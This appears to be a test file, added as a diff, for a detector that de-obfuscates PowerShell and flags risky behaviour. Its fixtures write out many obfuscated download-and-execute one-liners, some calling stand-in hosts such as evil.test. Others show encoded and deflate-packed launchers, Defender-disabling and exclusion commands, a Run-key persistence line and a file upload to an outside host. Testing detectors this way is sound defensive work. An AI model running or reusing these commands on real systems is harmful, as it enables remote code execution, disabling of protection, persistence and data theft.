@@ -1,0 +1,197 @@
+"""PowerShell read as PowerShell reads it: each evaluator feature on its own."""
+
+from __future__ import annotations
+
+import base64
+import zlib
+
+import pytest
+
+from app.detection.interpret import Behaviour, interpret
+from app.detection.interpret.budget import Budget
+from app.detection.interpret.facts import Facts
+from app.detection.interpret.powershell import interpret_powershell
+
+
+def reading(text: str) -> str:
+    """Every layer the interpreter produced, one text (what the rules will see)."""
+    return "\n".join(interpret(text).layers)
+
+
+def facts_of(text: str) -> Facts:
+    facts = Facts()
+    interpret_powershell(text, facts, Budget(ms=1000))
+    return facts
+
+
+def names(text: str) -> list[str]:
+    return [i.name for i in facts_of(text).invocations]
+
+
+def b64(text: str, encoding: str = "utf-8") -> str:
+    return base64.b64encode(text.encode(encoding)).decode()
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("iex ('Invo'+'ke-WebRequest')", "'Invoke-WebRequest'"),
+        ('$u = "ht" + "tps://a.test/x"; irm $u', "irm 'https://a.test/x'"),
+        ("$h='evil.test'; irm \"https://$h/p\"", "irm 'https://evil.test/p'"),
+        ("iex ('{2}{0}{1}' -f 'ke-Ex','pression','Invo')", "'Invoke-Expression'"),
+        ("iex (('i','r','m') -join '')", "'irm'"),
+        ("iex (-join ('i','w','r'))", "'iwr'"),
+        ("iex ('iXXwr' -replace 'XX','')", "'iwr'"),
+        ("iex ('iZZrm'.Replace('ZZ',''))", "'irm'"),
+        ("iex ('xxInvoke-WebRequestyy'.Substring(2,17))", "'Invoke-WebRequest'"),
+        ("iex ([char]105+[char]0x77+[char]114)", "'iwr'"),
+        ("iex ([string][char[]](105,101,120))", "'i e x'"),
+        ("$s='mri'; iex (-join $s[-1..-3])", "'irm'"),
+        ("$s='mri'; iex ($s[2,1,0] -join '')", "'irm'"),
+        ("$c='mri'.ToCharArray(); [array]::Reverse($c); iex ($c -join '')", "'irm'"),
+        ("iex ($env:public[13]+$env:public[5]+'x')", "'iex'"),
+        ("iex ($pshome[4]+$pshome[30]+'x')", "'iex'"),
+        ('iex "i`wr"', "'iwr'"),
+        ("iex ('IwR'.ToLower())", "'iwr'"),
+        (
+            f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('irm x.test')}')))",
+            "irm x.test",
+        ),
+        (
+            f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b64('irm y.test', 'utf-16-le')}')))",
+            "irm y.test",
+        ),
+        ("iex ([Uri]::UnescapeDataString('%69%72%6d%20z.test'))", "irm z.test"),
+        (
+            "iex (-join ('69726d'-split '(..)' | ? {$_} | % {[char][Convert]::ToInt32($_,16)}))",
+            "'irm'",
+        ),
+        ("iex (-join ([byte[]](44,55,40) | % {[char]($_ -bxor 69)}))", "'irm'"),
+        ("$a='i';$b='rm'; iex ($a+$b)", "'irm'"),
+        ("Set-Variable q 'irm'; iex $q", "iex 'irm'"),
+        ("iex ([string]::Join('', ('i','r','m')))", "'irm'"),
+        ("iex ('{0}{1}' -f [char]105,'rm')", "'irm'"),
+    ],
+)
+def test_string_tricks_are_evaluated(text: str, expected: str) -> None:
+    assert expected in reading(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "command"),
+    [
+        ("& (gal i*x) 'whoami'", "invoke-expression"),
+        ("& (Get-Alias ?e[?x]) 'whoami'", "invoke-expression"),
+        ("& (gcm *stM*) https://a.test", "invoke-restmethod"),
+        ("& (Get-Command I*-W*t) https://a.test", "invoke-webrequest"),
+        ("& (gcm ('*ke-ex'+'pr*')) 'x'", "invoke-expression"),
+        ("& (dir \\W*\\*32\\c??l.e*) https://a.test", "curl"),
+        ("& (gi C:\\W*\\S*m32\\m*ta.e*) https://a.test", "mshta"),
+        ("& (gci $env:windir\\*\\*ershell\\v1.0\\p*l.exe) -c x", "powershell"),
+        ("&('i'+'ex') 'x'", "invoke-expression"),
+        (".($env:comspec[4,15,25]-join'') 'x'", "invoke-expression"),
+        ("sal z iex; z 'x'", "invoke-expression"),
+        (
+            "& $ExecutionContext.InvokeCommand.GetCommand('I*-Ex*','Cmdlet') 'x'",
+            "invoke-expression",
+        ),
+        (
+            "& ($ExecutionContext.InvokeCommand.GetCommandName('*ke-R*od',1,1)) https://a.test",
+            "invoke-restmethod",
+        ),
+        ("i`e`x 'x'", "invoke-expression"),
+        ("IeX 'x'", "invoke-expression"),
+    ],
+)
+def test_commands_are_resolved_like_powershell(text: str, command: str) -> None:
+    assert command in names(text)
+
+
+def test_downloaded_code_handed_to_iex_is_runs_downloaded() -> None:
+    for text in (
+        "iex (New-Object Net.WebClient).DownloadString('https://a.test/x')",
+        "irm https://a.test/x | iex",
+        "iex (iwr https://a.test/x).Content",
+        "$w = New-Object Net.WebClient; $c = $w.DownloadString('https://a.test/x'); iex $c",
+        "[ScriptBlock]::Create((irm https://a.test/x)).Invoke()",
+        "& (gal i*x) (irm ('https://a.te'+'st/x'))",
+    ):
+        result = interpret(text)
+        assert Behaviour.RUNS_DOWNLOADED in result.behaviours, text
+        assert any("a.test/x" in e for e in result.behaviours[Behaviour.RUNS_DOWNLOADED]), text
+
+
+def test_code_given_to_iex_is_read_in_turn() -> None:
+    inner = "Invoke-WebRequest https://b.test/p -OutFile p.exe"
+    text = f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(inner)}')))"
+    assert "invoke-webrequest" in names(text)
+    assert inner in reading(text)
+
+
+def test_powershell_encoded_command_is_read() -> None:
+    text = f"powershell -nop -enc {b64('irm https://c.test | iex', 'utf-16-le')}"
+    assert "https://c.test" in interpret(text).behaviours[Behaviour.RUNS_DOWNLOADED]
+
+
+def test_deflate_payload_is_inflated_and_read() -> None:
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    blob = base64.b64encode(c.compress(b"irm https://d.test/z | iex") + c.flush()).decode()
+    text = (
+        "iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
+        f"[IO.MemoryStream][Convert]::FromBase64String('{blob}'),"
+        "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
+    )
+    assert "https://d.test/z" in interpret(text).behaviours[Behaviour.RUNS_DOWNLOADED]
+
+
+def test_foreach_loop_that_builds_a_string() -> None:
+    text = "$r=''; foreach($c in 105,114,109){$r+=[char]$c}; iex $r"
+    assert "iex 'irm'" in reading(text)
+
+
+def test_for_loop_that_decodes_hex() -> None:
+    text = "$h='69726d'; $r=''; for($i=0;$i -lt $h.Length;$i+=2){$r+=[char][Convert]::ToInt32($h.Substring($i,2),16)}; iex $r"
+    assert "iex 'irm'" in reading(text)
+
+
+def test_hidden_command_is_a_behaviour_only_when_never_written_out() -> None:
+    assert Behaviour.HIDDEN_COMMAND in interpret("& (gal i*x) 'x'").behaviours
+    # a script that names its program in a variable is not hiding it
+    plain = '$exe = "C:\\Tools\\curl.exe"; & $exe https://example.com -o out.txt'
+    assert Behaviour.HIDDEN_COMMAND not in interpret(plain).behaviours
+
+
+def test_persistence_and_protection_tampering_are_behaviours() -> None:
+    tamper = interpret("& ('Set-Mp'+'Preference') -DisableRealtimeMonitoring $true")
+    assert Behaviour.WEAKENS_PROTECTION in tamper.behaviours
+    exclusion = interpret("Add-MpPreference -ExclusionPath ($env:temp+'\\x')")
+    assert Behaviour.WEAKENS_PROTECTION in exclusion.behaviours
+    run_key = "New-ItemProperty -Path ('HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\'+'Run') -Name u -Value x"
+    assert Behaviour.PERSISTS in interpret(run_key).behaviours
+
+
+def test_upload_is_sending_data_away() -> None:
+    text = "Invoke-RestMethod -Uri ('https://e.test/'+'u') -Method Post -InFile $env:temp\\k.zip"
+    assert Behaviour.SENDS_DATA in interpret(text).behaviours
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Write-Host ('{0} files in {1}' -f $count, $folder)",
+        "$names = $users | ForEach-Object { $_.Name }; $names -join ', '",
+        "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.Length -gt 10MB } | Remove-Item",
+        "$path = Join-Path $env:ProgramData 'Contoso'; New-Item -ItemType Directory -Path $path -Force",
+        "$s = 'a,b,c' -split ','; $s[0].ToUpper()",
+        "[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('user:pass'))",
+        "Get-Service | Sort-Object Status | Format-Table -AutoSize",
+    ],
+)
+def test_ordinary_admin_scripts_have_no_behaviour_of_concern(text: str) -> None:
+    result = interpret(text)
+    worrying = {Behaviour.RUNS_DOWNLOADED, Behaviour.HIDDEN_COMMAND, Behaviour.WEAKENS_PROTECTION}
+    assert not worrying & set(result.behaviours), result.behaviours
+
+
+def test_nothing_is_read_into_a_text_without_code_markers() -> None:
+    assert interpret("Meeting moved to 3 pm, see you there").layers == []
